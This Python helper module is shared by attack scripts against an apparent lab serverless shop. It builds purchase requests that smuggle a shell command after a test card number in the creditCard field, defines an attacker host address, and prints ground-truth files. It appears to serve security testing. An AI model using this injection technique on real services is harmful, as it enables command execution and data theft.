"""What the attack scripts share: their command line, sending a request, printing the truth.

A part of an attack is one request: (function, path, headers, body).
"""
import argparse
import json
import os
import subprocess
import sys

HERE = os.path.dirname(os.path.realpath(__file__))
LAB = os.path.join(HERE, "..", "..", "scripts", "lab")
ATTACKER = "http://198.18.9.9"
CARD = "4111111111111111"


def purchase(injected="", **more):
    """A purchase; what is injected comes after the card number, in a shell."""
    body = {"id": "1001", "user": "mallory", "creditCard": f"{CARD}{injected and '; ' + injected}", **more}
    return "product-purchase", "", {}, json.dumps(body)


def main(doc, name, parts):
    """parts: {name of the part: function that makes the request}"""
    parser = argparse.ArgumentParser(description=doc, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("part", choices=(*parts, "truth"))
    options = parser.parse_args()
    if options.part == "truth":
        with open(os.path.join(HERE, f"{name}.json")) as file:
            print(file.read(), end="")
    else:
        print(json.dumps({"role": options.part, **send(*parts[options.part]())}))


def send(function, path, headers, body):
    """An attack may well be answered with an error: the answer is printed whatever it is."""
    argv = [LAB, "invoke", function, "--data", "-", "--json", *(["--path", path] if path else [])]
    for key, value in headers.items():
        argv += ["--header", f"{key}: {value}"]
    done = subprocess.run(argv, input=body, text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if done.returncode not in (0, 1) or not done.stdout:
        sys.stderr.write(done.stderr)
        sys.exit(done.returncode or 4)
    return json.loads(done.stdout)
